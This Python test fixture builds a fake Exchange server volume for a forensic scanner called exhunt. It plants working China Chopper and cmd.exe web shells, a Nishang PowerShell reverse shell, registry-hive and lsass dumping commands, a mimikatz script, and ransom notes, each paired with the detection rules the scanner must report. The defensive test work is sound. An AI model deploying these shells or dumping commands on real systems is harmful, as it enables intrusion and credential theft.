"""Test files for `exhunt files`, written by the tests at run time: web shells
in the shapes the public reports describe, benign Exchange pages, ransomware
notes and encrypted files, minidumps, tools, and near misses that must not
match. Nothing here is real malware: every sample is a few lines written for
exhunt to have the shape a report describes.

plant(root) builds an Exchange-like system volume under root and returns the
set of (relative path, rule id) that `exhunt files` must report, exactly.
"""
import os

EX = 'Program Files/Microsoft/Exchange Server/V15'
OWA_AUTH = EX + '/FrontEnd/HttpProxy/owa/auth'
ECP_AUTH = EX + '/FrontEnd/HttpProxy/ecp/auth'
OAB = EX + '/FrontEnd/HttpProxy/OAB'
ASPNET = 'inetpub/wwwroot/aspnet_client'

OLD = 1591000000   # 2020-06-01: when the server was installed
NEW = 1614800000   # 2021-03-03: the week of ProxyLogon

CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
CHOPPER_FORM = ('<%@ Page Language="Jscript" Debug=true%>\r\n'
                '<%eval(Request.Form["Ap"],"unsafe");%>\r\n')


def oab_config(script: bool) -> bytes:
    """The shape of an OAB virtual directory configuration exported to a
    file (CISA AR21-084A): Get-OabVirtualDirectory fields, CRLF lines."""
    url = ('http://f/<script language="JScript" runat="server">function Page_Load()'
           '{eval(Request["orange"],"unsafe");}</script>' if script
           else 'https://mail.contoso.com/OAB')
    lines = [
        'RunspaceId                      : 3c0f6a2e-8d63-4f5b-9a1e-2f7b9d0c4e11',
        'PollInterval                    : 480',
        'OfflineAddressBooks             : {}',
        'RequireSSL                      : True',
        'BasicAuthentication             : False',
        'WindowsAuthentication           : True',
        'OAuthAuthentication             : True',
        'MetabasePath                    : IIS://MAIL01.contoso.local/W3SVC/1/ROOT/OAB',
        'Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB',
        'ExtendedProtectionTokenChecking : None',
        'InternalUrl                     : https://mail01.contoso.local/OAB',
        'ExternalUrl                     : ' + url,
        'AdminDisplayName                : ',
        'ExchangeVersion                 : 0.10 (14.0.100.0)',
        'Name                            : OAB (Default Web Site)',
        'DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=MAIL01',
        'Identity                        : MAIL01\\OAB (Default Web Site)',
    ]
    return ('\r\n'.join(lines) + '\r\n').encode()


BENIGN_LOGON = b'''<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import namespace="Microsoft.Exchange.Clients" %>
<!DOCTYPE HTML>
<html><head><title><%=Strings.GetLocalizedString(Strings.LogonPageTitle)%></title>
<script type="text/javascript">
  function onLoad() { var x = new XMLHttpRequest(); x.onload = function() { var r = eval(request.responseText); }; }
</script></head>
<body onload="onLoad()"><form action="/owa/auth.owa" method="POST" name="logonForm">
<input id="username" name="username" type="text"><input id="password" name="password" type="password">
<input type="hidden" name="destination" value="<%=Request.QueryString["url"]%>">
</form></body></html>
'''

BENIGN_ECP_DEFAULT = b'''<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.Management.ControlPanel.DefaultPage" %>
<% Response.Redirect(Request.QueryString["ReturnUrl"] ?? "/ecp/"); %>
'''

CMD_SHELL = b'''<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  if (Request.Form["c"] != null) {
    ProcessStartInfo p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    p.RedirectStandardOutput = true; p.UseShellExecute = false;
    Response.Write(Process.Start(p).StandardOutput.ReadToEnd());
  }
}
</script>
'''

# A page that runs a fixed tool with no request input: not a shell.
NEAR_CMD = b'''<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  var p = Process.Start("cmd.exe", "/c ipconfig");
}
</script>
'''

ASPXSPY = b'''<%@ Page Language="C#" Debug="true" trace="false" validateRequest="false" %>
<%@ import Namespace="System.IO" %>
<script runat="server">
public string Password = "21232f297a57a5a743894a0e4a801fc3";
public string vbhLn = "ASPXSpy";
</script>
'''

PST_HEAD = b'!BDN' + bytes(i % 256 for i in range(4, 512))


def minidump(process: str) -> bytes:
    """MINIDUMP_HEADER (signature MDMP, version 0xa793) and a module name
    in UTF-16, as a dump of that process holds."""
    head = b'MDMP' + (0xa793).to_bytes(4, 'little') + (3).to_bytes(4, 'little')
    head += (32).to_bytes(4, 'little') + bytes(16)
    name = ('C:\\Windows\\System32\\' + process).encode('utf-16-le')
    return head + bytes(64) + name + bytes(128)


DEARCRY_NOTE = b'''Your file has been encrypted!
If you want to decrypt, please contact us.
konedieyp@airmail.cc or uenwonken@memail.com
And please send me the following hash!
2b9838da7edb0decd32b086e47a31e8f
'''

NEAR_DEARCRY = b'''Incident notes, 2021-03-12.
DearCry ransomware marks files with DEARCRY! at the start; its note says
"Your file has been encrypted!" - check the file servers tomorrow.
'''

BLACKKINGDOM_NOTE = b'''*** Black Kingdom ***
We have encrypted your files. Send $10,000 worth of Bitcoin to
1Lf8ZzcEhhRiXpk6YNQFpCJcUisiXb34FT and email us the transaction.
'''

HIVES = b'''@echo off\r
reg save hklm\\sam C:\\Windows\\Temp\\sam.hive\r
reg save hklm\\system C:\\Windows\\Temp\\sys.hive\r
reg save hklm\\security C:\\Windows\\Temp\\sec.hive\r
'''

NEAR_HIVES = b'''@echo off\r
reg save hklm\\software C:\\Backup\\software.hive\r
reg save hklm\\sam C:\\Backup\\sam.hive\r
'''

NISHANG = (b'$client = New-Object System.Net.Sockets.TCPClient("10.1.2.3",443);'
           b'$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};'
           b'while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;'
           b'$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);'
           b'$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);'
           b'$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\n')

NEAR_TCP = (b'# health check: is SMTP up?\n$c = New-Object System.Net.Sockets.TCPClient("mail01",25)\n'
            b'$s = $c.GetStream(); $c.Close()\n')

POWERCAT = b'function powercat\n{\n  param([alias("Client")][string]$c="")\n}\n'

MIMIKATZ = b'privilege::debug\r\nsekurlsa::logonpasswords\r\nexit\r\n# mimikatz 2.2.0\r\n'

EXPORT = (b'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn;\n'
          b'New-MailboxExportRequest -Mailbox ceo -FilePath \\\\mail01\\c$\\ProgramData\\ceo.pst\n')

NEAR_EXPORT = b'Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false\n'

COMSVCS = b'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\root\\out.dmp full\r\n'


def tree():
    """(relative path, bytes, mtime, expected rule ids) for every file."""
    F = []

    def add(path, data, rules=(), mtime=OLD):
        F.append((path, data if isinstance(data, bytes) else data.encode(), mtime, set(rules)))

    # Standard Exchange front-end pages: old, benign, never flagged.
    for name in ('logon.aspx', 'logoff.aspx', 'errorFE.aspx', 'frowny.aspx',
                 'ExpiredPassword.aspx', 'RedirSuiteServiceProxy.aspx'):
        add(f'{OWA_AUTH}/{name}', BENIGN_LOGON)
    add(f'{OWA_AUTH}/Current/themes/resources/logon.css', 'body { font-family: "Segoe UI"; }\n')
    add(f'{OWA_AUTH}/15.1.2176/scripts/premium/flogon.js', 'function setCookie(n,v){document.cookie=n+"="+v;}\n')
    add(f'{ECP_AUTH}/TimeoutLogoff.aspx', BENIGN_LOGON)
    add(f'{EX}/ClientAccess/ecp/default.aspx', BENIGN_ECP_DEFAULT)
    add(f'{EX}/ClientAccess/Owa/auth/logon.aspx', BENIGN_LOGON)
    add(f'{EX}/ClientAccess/OAB/oabsettings.txt', oab_config(False))
    add(f'{OAB}/web.config', '<configuration><system.webServer/></configuration>\n')
    add('inetpub/wwwroot/iisstart.htm', '<html><body>IIS</body></html>\n')

    # CVE-2021-27065: OAB configuration with a JScript shell in ExternalUrl,
    # under a name the MSTIC feed lists, written long after the install.
    add(f'{OWA_AUTH}/supp0rt.aspx', oab_config(True),
        {'exh.files.path.published_shell_name', 'exh.files.path.owa_auth_script',
         'exh.files.path.recent_page', 'exh.files.webshell.oab_config',
         'exh.files.webshell.china_chopper'}, NEW)
    add(f'{ASPNET}/discover.aspx', oab_config(True),
        {'exh.files.path.published_shell_name', 'exh.files.path.aspnet_client_script',
         'exh.files.webshell.oab_config', 'exh.files.webshell.china_chopper'}, NEW)
    add(f'{OWA_AUTH}/Current/one1.aspx', CHOPPER_FORM,
        {'exh.files.path.published_shell_name', 'exh.files.path.owa_auth_script',
         'exh.files.webshell.china_chopper'}, NEW)
    add(f'{ASPNET}/system_web/zxvt0lpt.aspx', CHOPPER,
        {'exh.files.path.aspnet_client_script', 'exh.files.path.random_name',
         'exh.files.webshell.china_chopper'}, NEW)
    add(f'{ECP_AUTH}/help.aspx', CMD_SHELL,
        {'exh.files.path.published_shell_name', 'exh.files.path.ecp_auth_script',
         'exh.files.webshell.aspx_cmd'}, NEW)
    add(f'{ASPNET}/system_web/4_0_30319/spy.aspx', ASPXSPY,
        {'exh.files.path.aspnet_client_script', 'exh.files.webshell.aspxspy'}, NEW)
    # ProxyShell: a mailbox export (PST) written as a page, and a plain PST.
    add(f'{OWA_AUTH}/authzz.aspx', PST_HEAD,
        {'exh.files.path.owa_auth_script', 'exh.files.path.pst_as_page',
         'exh.files.path.recent_page'}, NEW)
    add(f'{OAB}/export.pst', PST_HEAD, {'exh.files.path.pst_in_web'}, NEW)
    # Near misses in web folders: a page running a fixed command in
    # wwwroot (not aspnet_client), an old standard-looking one.
    add('inetpub/wwwroot/status.aspx', NEAR_CMD)
    add(f'{EX}/ClientAccess/Owa/auth/errorFE.aspx', BENIGN_LOGON)

    # Dumps and credential theft.
    add('Windows/Temp/lsass.dmp', minidump('lsass.exe'),
        {'exh.files.path.lsass_dump', 'exh.files.path.dump_in_temp',
         'exh.files.dump.lsass_minidump'}, NEW)
    add('root/out.dmp', minidump('lsass.exe'),
        {'exh.files.path.dump_in_temp', 'exh.files.dump.lsass_minidump'}, NEW)
    add('Windows/Temp/notepad.dmp', minidump('notepad.exe'),
        {'exh.files.path.dump_in_temp'}, NEW)
    add('Users/admin/AppData/Local/CrashDumps/w3wp.exe.1234.dmp', minidump('w3wp.exe'))
    add('Users/admin/Documents/lsass-notes.txt', 'Never dump lsass.exe on a production server.\n')
    add('Windows/Temp/xx.bat', HIVES,
        {'exh.files.path.hive_save_script', 'exh.files.dump.hive_save'}, NEW)
    add('Windows/Temp/backup.bat', NEAR_HIVES)
    add('Windows/Temp/d.bat', COMSVCS, {'exh.files.dump.lsass_command'}, NEW)

    # Staging.
    add('ProgramData/out.zip', b'PK\x03\x04' + bytes(60), {'exh.files.path.programdata_archive'}, NEW)
    add('ProgramData/Microsoft/Crypto/x.7z', b"7z\xbc\xaf'\x1c" + bytes(40),
        {'exh.files.path.programdata_archive'}, NEW)
    add('Users/admin/Documents/backup.zip', b'PK\x03\x04' + bytes(60))

    # Ransomware.
    add('readme.txt', DEARCRY_NOTE, {'exh.files.ransom.dearcry_note'}, NEW)
    add('Users/Public/Documents/budget.xlsx.CRYPT', b'DEARCRY!' + bytes(range(256)) * 4,
        {'exh.files.ransom.dearcry_encrypted'}, NEW)
    add('Users/Public/Documents/dearcry-notes.txt', NEAR_DEARCRY)
    add('Users/Public/decrypt_file.TxT', BLACKKINGDOM_NOTE,
        {'exh.files.path.blackkingdom_note', 'exh.files.ransom.blackkingdom_note'}, NEW)
    add('Users/Public/CONTOSO-LOCKFILE-README.hta', '<html><body>LockFile</body></html>\n',
        {'exh.files.path.lockfile_note'}, NEW)
    add('Users/Public/Documents/q3.docx.lockfile', bytes(range(256)),
        {'exh.files.path.lockfile_encrypted'}, NEW)

    # Tools.
    add('ProgramData/svc.ps1', NISHANG, {'exh.files.tool.nishang_tcp'}, NEW)
    add('Windows/Temp/check.ps1', NEAR_TCP)
    add('Windows/Temp/pc.ps1', POWERCAT, {'exh.files.tool.powercat'}, NEW)
    add('Users/admin/Downloads/m.txt', MIMIKATZ, {'exh.files.tool.mimikatz'}, NEW)
    add('Windows/Temp/exp.ps1', EXPORT, {'exh.files.tool.mailbox_export_script'}, NEW)
    add('Windows/Temp/cleanup.ps1', NEAR_EXPORT)
    return F


def plant(root, extras=True):
    """Writes the tree under root. With extras, also a symbolic link to a
    shell outside the tree and a FIFO, which must both be skipped.
    Returns {(relative path, rule id)}."""
    expected = set()
    for path, data, mtime, rules in tree():
        full = os.path.join(root, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, 'wb') as f:
            f.write(data)
        # atime older than mtime: a read without O_NOATIME would move it
        # even under relatime, so the unchanged-atime check can fail.
        os.utime(full, (mtime - 86400 * 30, mtime))
        for r in rules:
            expected.add((path, r))
    if extras:
        outside = os.path.join(os.path.dirname(root.rstrip('/')), 'outside-shell.aspx')
        with open(outside, 'w') as f:
            f.write(CHOPPER)
        os.symlink(outside, os.path.join(root, ASPNET, 'linked.aspx'))
        os.symlink('/', os.path.join(root, 'Windows/Temp/rootlink'))
        os.mkfifo(os.path.join(root, ASPNET, 'pipe.aspx'))
    return expected
